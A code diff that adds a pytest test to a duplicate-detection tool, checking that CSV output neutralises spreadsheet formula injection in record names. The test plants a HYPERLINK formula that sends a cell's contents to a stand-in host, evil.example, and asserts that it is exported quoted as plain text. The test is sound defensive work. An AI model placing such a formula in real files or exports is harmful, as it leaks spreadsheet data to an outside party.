@@ -394,6 +394,17 @@ def test_duplicates_text_and_csv_output(capsys):
     assert all(r["file"].endswith(r["id"] + ".yaml") and r["reasons"] for r in rows)
 
 
+def test_duplicates_csv_keeps_a_formula_like_name_as_text(tmp_path, capsys):
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
+    for name in ("maison-des-jeunes-le-phare", "mdj-le-phare"):
+        text = (TOOLS / "duplicates" / f"{name}.yaml").read_text(encoding="utf-8")
+        text = re.sub(r"^name: .*$", "name: '" + formula.replace("'", "''") + "'", text, count=1, flags=re.M)
+        (tmp_path / f"{name}.yaml").write_text(text, encoding="utf-8")
+    assert find_duplicates.main(["--format=csv", *map(str, sorted(tmp_path.glob("*.yaml")))]) == 1
+    names = [row["name"] for row in csv.DictReader(io.StringIO(capsys.readouterr().out))]
+    assert names == ["'" + formula] * 2  # a spreadsheet shows it, does not run it
+
+
 def test_duplicates_exit_0_when_none(capsys):
     distinct = [
         TOOLS / "duplicates" / f"{name}.yaml"
